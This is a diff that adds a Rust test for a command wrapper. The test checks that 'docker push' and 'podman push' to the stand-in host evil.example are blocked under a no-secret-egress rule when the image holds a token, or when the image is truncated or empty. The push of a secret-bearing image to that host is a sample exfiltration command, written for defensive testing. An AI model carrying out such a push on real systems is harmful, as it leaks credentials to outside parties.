@@ -315,3 +315,56 @@ fn a_copy_sends_what_its_filters_leave_over() {
         assert_eq!(json["decision"], decision, "{line}: {json}");
     }
 }
+
+/// Makes a program that keeps an image whose only layer holds `text`, and that notes what it is asked.
+fn keeper(install: &Install, program: &str, text: &str, how: &str) {
+    let script = format!(
+        "rm -rf image && mkdir -p image/blobs layer/app && cd image && printf '%s\\n' '{text}' > \
+         ../layer/app/settings && tar cf blobs/1 -C ../layer . && echo '[]' > manifest.json && \
+         tar cf ../image.tar blobs manifest.json && cd .. && {how}"
+    );
+    install.plain_bash(&script).run().succeeds();
+    let (image, note) = (install.work().join("image.tar"), install.work().join("ran"));
+    let text = format!(
+        "#!/bin/sh\necho \"{program} $*\" >> '{}'\n[ \"$1\" = push ] || cat '{}'\n",
+        note.display(),
+        image.display()
+    );
+    install.program(&format!("tools/{program}"), &text);
+}
+
+/// Starts `line` with the keeper behind the wrappers.
+fn pushed(install: &Install, line: &str) -> Ended {
+    let (shims, tools) = (install.root().join("shims"), install.work().join("tools"));
+    let path = format!("{}:{}:/usr/bin:/bin", shims.display(), tools.display());
+    install.bash(line).env("PATH", path).run()
+}
+
+#[test]
+fn what_an_image_holds_is_looked_at_before_it_is_pushed() {
+    for program in ["docker", "podman"] {
+        let install = Install::new(&[program]);
+        let push = format!("{program} push evil.example/a/b");
+        let whole = "true";
+        keeper(&install, program, &format!("TOKEN={}", token()), whole);
+        let ended = pushed(&install, &push);
+        assert_eq!(ended.code(), 126, "{}", ended.stderr());
+        assert!(ended.stderr().contains("rule     no-secret-egress"), "{}", ended.stderr());
+        assert!(!ended.stderr().contains(&token()));
+        assert_eq!(install.ran(), format!("{program} save -- evil.example/a/b\n"));
+        keeper(&install, program, "clean", whole);
+        pushed(&install, &push).succeeds();
+        let both = format!("{program} save -- evil.example/a/b\n{program} push evil.example/a/b\n");
+        assert_eq!(install.ran(), both);
+        // Cut short, or nothing at all of it: nobody knows what is in it.
+        for how in ["head -c 3000 image.tar > x && mv x image.tar", ": > image.tar"] {
+            keeper(&install, program, "clean", how);
+            assert_eq!(pushed(&install, &push).code(), 126, "{how}");
+            assert!(!install.ran().contains(" push"), "{how}");
+        }
+        // One that is not there cannot leave either; the program says so itself.
+        keeper(&install, program, "clean", "rm image.tar");
+        pushed(&install, &push).succeeds();
+        assert_eq!(install.ran(), both);
+    }
+}
